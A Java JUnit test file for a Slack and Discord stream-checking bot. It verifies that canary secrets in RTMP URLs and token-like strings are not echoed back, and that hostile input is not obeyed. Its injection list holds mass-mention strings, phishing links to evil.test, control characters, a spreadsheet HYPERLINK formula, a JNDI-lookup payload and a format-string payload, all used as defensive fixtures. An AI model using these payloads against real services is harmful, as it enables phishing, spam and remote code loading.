package dev.pushcheck.app.cli;

import static org.assertj.core.api.Assertions.assertThat;

import com.google.gson.JsonArray;
import com.google.gson.JsonElement;
import com.google.gson.JsonObject;
import dev.pushcheck.sandbox.discord.Asker;
import dev.pushcheck.sandbox.slack.Place;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.TestInstance.Lifecycle;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/** What strangers may put into a question, as Slack and Discord show it in the answer. */
@TestInstance(Lifecycle.PER_CLASS)
@Timeout(180)
class HostileInputTest {
  private static final String CANARY = "0badcafe5ec0ded0c0ffee00deadbeef";
  private static final String ADDRESS = "rtmp://push.example.com/live/room42";

  /** Elements of Slack's rich text that do something by themselves. */
  private static final List<String> ACTING = List.of("broadcast", "user", "usergroup", "channel");

  /** Between back-ticks, Discord obeys nothing. */
  private static final Pattern CODE = Pattern.compile("`[^`]*`");

  private SlackScene slack;
  private DiscordStage discord;

  @BeforeAll
  void start(@TempDir Path one, @TempDir Path other) throws Exception {
    slack = SlackScene.overSocket(one);
    discord = new DiscordStage(other);
  }

  @AfterAll
  void end() throws Exception {
    slack.close();
    discord.close();
  }

  static Stream<String> leaks() {
    return Stream.of(
            ADDRESS + "?txSecret=CANARY&txTime=5C271099",
            ADDRESS + "?txTime=5C271099&TXSECRET=CANARY",
            ADDRESS + "?txSercet=CANARY",
            ADDRESS + "?txSecret%3DCANARY",
            ADDRESS + "?%2574xSecret=CANARY",
            ADDRESS + "?a=1&amp;txSecret=CANARY",
            ADDRESS + "&txSecret=CANARY",
            "`" + ADDRESS + "?txSecret=CANARY`",
            "<" + ADDRESS + "?txSecret=CANARY|see CANARY>",
            "[see CANARY](" + ADDRESS + "?txSecret=CANARY)",
            ADDRESS + "?txSecret=0badcafe5ec0ded0\nc0ffee00deadbeef",
            ADDRESS + "?txSecret=0badcafe5ec0\nded0c0ffee00deadbeef",
            "please look: 0badcafe5ec0 ded0c0ffee00deadbeef",
            "the txSercet is CANARY",
            "{\"stream_param\":\"txSecret=CANARY&txTime=5C271099\"}",
            "room42?txSecret=CANARY",
            "rtmp://user:CANARY@push.example.com/live/x",
            "rtmp://push.example.com:CANARY/live/x",
            "my token is xoxb-17653672481-19874698323-0badcafe5ec0ded0c0ffee00",
            "xapp-1-A0-4567-CANARY",
            "AKIDCANARY")
        .map(text -> text.replace("CANARY", CANARY));
  }

  @ParameterizedTest
  @MethodSource("leaks")
  void showsNoSecret(String typed) {
    for (String command : List.of("", "explain ", "url ", "interruptions ", "resume ", "chekc ")) {
      assertKept(slack.ask(Place.USUAL, command + typed).toString());
    }
    Map.of(
            "pushcheck",
            "address",
            "explain",
            "question",
            "pushurl",
            "stream",
            "interruptions",
            "stream")
        .forEach(
            (command, option) ->
                assertKept(
                    DiscordStage.shown(
                        discord.command(Asker.HOST, command, Map.of(option, typed)))));
  }

  private static void assertKept(String shown) {
    assertThat(shown)
        .doesNotContainIgnoringCase(CANARY)
        .doesNotContain("0badcafe5ec0", "ded0c0ffee00deadbeef", "c0ffee00deadbeef");
  }

  static Stream<String> injections() {
    return Stream.of(
        "<!channel>",
        "<!here>",
        "<@U123>",
        "<!subteam^S1>",
        "<https://evil.test|Renew key>",
        "@everyone",
        "@here",
        "<@&1>",
        "<@1>",
        "[Renew](https://evil.test)",
        "```",
        "||x||",
        "# big",
        "> q",
        "a\n✅ All checks passed",
        "a\r\nb",
        "a\u202Eb",
        "a\u200Bb",
        "a\u2028b",
        "a\u0000b",
        "a\u001b[31mb",
        "a\uD83Db",
        "x".repeat(1_500),
        "=HYPERLINK(\"https://evil.test\")",
        "${jndi:ldap://evil.test}",
        "%n%s");
  }

  @ParameterizedTest
  @MethodSource("injections")
  void isNotObeyed(String typed) {
    for (String line : List.of(typed, "explain " + typed, ADDRESS + typed, "url live/" + typed)) {
      JsonObject answer = slack.ask(Place.USUAL, line);
      List<JsonObject> objects = new ArrayList<>();
      collect(answer, objects);
      assertThat(SlackScene.words(answer)).doesNotContain("I made a mistake myself");
      assertThat(objects)
          .noneMatch(part -> part.has("type") && ACTING.contains(part.get("type").getAsString()))
          .filteredOn(part -> part.has("url"))
          .noneMatch(part -> part.get("url").getAsString().contains("evil"));
      assertThat(answer.get("text").getAsString())
          .doesNotContain("<!", "<@", "<https://evil", "\u202E", "\u0000", "\u001b");
      objects.stream()
          .filter(part -> part.has("type") && part.get("type").getAsString().equals("mrkdwn"))
          .forEach(
              part ->
                  assertThat(part.get("text").getAsString()).doesNotContain("<!", "<@", "<http"));
    }
    for (String address : List.of(typed, ADDRESS + typed)) {
      String shown =
          DiscordStage.shown(discord.command(Asker.HOST, "pushcheck", Map.of("address", address)));
      assertThat(CODE.matcher(shown).replaceAll(""))
          .doesNotContain("](https://evil", "\u202E", "\u0000", "\u001b", "\\u001b", "\\u202e");
    }
    assertThat(discord.discord.calls())
        .filteredOn(call -> call.body().toString().contains("\"components\""))
        .allSatisfy(
            call ->
                assertThat(call.body().toString())
                    .doesNotContain("\"parse\":[\"")
                    .contains("\"allowed_mentions\""));
  }

  private static void collect(JsonElement element, List<JsonObject> found) {
    if (element instanceof JsonArray array) {
      array.forEach(item -> collect(item, found));
    } else if (element instanceof JsonObject object) {
      found.add(object);
      object.entrySet().forEach(entry -> collect(entry.getValue(), found));
    }
  }
}
